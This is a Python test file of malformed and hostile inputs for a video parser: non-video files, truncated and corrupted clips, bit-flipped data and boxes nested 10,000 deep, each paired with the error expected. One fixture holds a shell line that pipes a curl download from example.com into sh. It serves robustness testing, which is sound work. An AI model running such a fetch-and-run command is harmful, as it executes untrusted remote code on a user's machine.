"""Files that are no video at all, or were one until something happened to them."""

import io
import json
import random
import zipfile
from functools import partial

from demo.clips import ClipSpec
from screen_time.errors import ErrorCode
from tests.hostile.files.boxes import parse
from tests.hostile.files.case import Anything, Case, Measured, RefusedOrCut, fixed, made, refused
from tests.hostile.files.clips import clip

NO_VIDEO = refused(ErrorCode.NOT_A_VIDEO)
NO_FRAMES = refused(ErrorCode.NO_FRAMES)

IN_FRONT = ClipSpec(gop=5, faststart=True)
SHORT_GOP = ClipSpec(gop=5)


def _zip() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("video.mp4", clip())
    return file.getvalue()


def _noise(size: int) -> bytes:
    return random.Random(5).randbytes(size)


def _only(*kinds: bytes) -> bytes:
    """An MP4 of which only some boxes are left."""
    return b"".join(bytes(box) for box in parse(clip()) if box.kind in kinds)


def _cut(suffix: str, spec: ClipSpec, share: float) -> bytes:
    whole = clip(75, suffix, spec)
    return whole[: round(len(whole) * share)]


def _spoiled(share: float) -> bytes:
    """A video of which this share of packets is overwritten with noise, the first and last ones excepted."""
    boxes = parse(clip(75, ".mp4", SHORT_GOP))
    data = next(box for box in boxes if box.kind == b"mdat")
    size = round(len(data.body) * share)
    start = (len(data.body) - size) // 2
    data.body = data.body[:start] + _noise(size) + data.body[start + size :]
    return b"".join(map(bytes, boxes))


def _flipped(seed: int) -> bytes:
    """A video with a bit turned in every 200 bytes."""
    chance, data = random.Random(seed), bytearray(clip(75, ".mkv", SHORT_GOP))
    for _ in range(len(data) // 200):
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
    return bytes(data)


def _nested(depth: int) -> bytes:
    """Boxes in boxes in boxes, against those who recurse."""
    data = b""
    for _ in range(depth):
        data = (len(data) + 8).to_bytes(4) + b"moov" + data
    return _only(b"ftyp") + data


def _interleaved(first: bytes, second: bytes) -> bytes:
    return b"".join(first[at : at + 512] + second[at : at + 512] for at in range(0, len(first), 512))


_NOT_VIDEOS = {
    "empty": b"",
    "one-byte": b"\x00",
    "zeros": bytes(65536),
    "noise": _noise(65536),
    "text": b"hello, I am a text\n" * 100,
    "html": b"<!doctype html><title>404</title><p>Not found",
    "json": json.dumps({"video": "https://example.com/video.mp4"}).encode(),
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    "program": b"\x7fELF\x02\x01\x01" + bytes(9) + _noise(2048),
    "script": b"#!/bin/sh\ncurl http://example.com | sh\n",
    "gzip": b"\x1f\x8b\x08\x00" + _noise(2048),
    "srt": b"1\n00:00:00,000 --> 00:00:02,000\nhello\n\n",
}

CUTS = (0.01, 0.05, 0.2, 0.4, 0.6, 0.75)

CASES = (
    [Case(f"no-video-{name}", fixed(content), NO_VIDEO) for name, content in _NOT_VIDEOS.items()]
    + [
        Case("no-video-zip", made(_zip), NO_VIDEO),
        Case("mp4-without-moov", made(lambda: _only(b"ftyp", b"mdat")), NO_VIDEO),
        Case("mp4-without-mdat", made(lambda: _only(b"ftyp", b"moov")), NO_FRAMES),
        Case("mp4-of-ftyp-only", made(lambda: _only(b"ftyp")), NO_VIDEO),
        Case("mp4-of-ten-thousand-ftyps", made(lambda: _only(b"ftyp") * 10_000), NO_VIDEO),
        Case(
            "mp4-nested-ten-thousand-deep",
            made(lambda: _nested(10_000)),
            refused(ErrorCode.NOT_A_VIDEO, ErrorCode.NO_VIDEO_STREAM),
        ),
        Case(
            "mp4-box-without-end",
            made(lambda: _only(b"ftyp") + b"\x00\x00\x00\x01moov" + b"\x7f" + b"\xff" * 7),
            NO_VIDEO,
        ),
        Case("mp4-twice-in-one-file", made(lambda: clip() + clip()), Measured(3000, (0, 25, 50))),
        Case("mp4-with-garbage-behind", made(lambda: clip() + _noise(4096)), Measured(3000)),
        Case("mp4-with-garbage-in-front", made(lambda: _noise(4096) + clip()), NO_VIDEO),
        Case("mp4-and-mkv-interleaved", made(lambda: _interleaved(clip(), clip(75, ".mkv"))), NO_VIDEO),
        Case("index-in-front", made(lambda: clip(75, ".mp4", IN_FRONT)), Measured(3000, (0, 25, 50))),
        Case("index-behind", made(lambda: clip(75, ".mp4", SHORT_GOP)), Measured(3000, (0, 25, 50))),
        Case("one-packet-spoiled", made(lambda: _spoiled(0.04)), Measured(3000, truncated=None, corrupt=None)),
        Case("half-of-the-packets-spoiled", made(lambda: _spoiled(0.5)), Measured(truncated=None, corrupt=True)),
        Case("all-packets-spoiled", made(lambda: _spoiled(1.0)), NO_FRAMES),
    ]
    + [Case(f"mp4-cut-at-{share:.0%}", made(partial(_cut, ".mp4", IN_FRONT, share)), RefusedOrCut()) for share in CUTS]
    + [
        Case(f"mp4-index-behind-cut-at-{share:.0%}", made(partial(_cut, ".mp4", SHORT_GOP, share)), NO_VIDEO)
        for share in CUTS
    ]
    + [Case(f"mkv-cut-at-{share:.0%}", made(partial(_cut, ".mkv", SHORT_GOP, share)), RefusedOrCut()) for share in CUTS]
    # Neither tells how long it should have been.
    + [Case(f"ts-cut-at-{share:.0%}", made(partial(_cut, ".ts", SHORT_GOP, share)), Anything()) for share in CUTS]
    + [Case(f"avi-cut-at-{share:.0%}", made(partial(_cut, ".avi", SHORT_GOP, share)), RefusedOrCut()) for share in CUTS]
    + [Case(f"mkv-with-flipped-bits-{seed}", made(partial(_flipped, seed)), Anything()) for seed in range(8)]
)
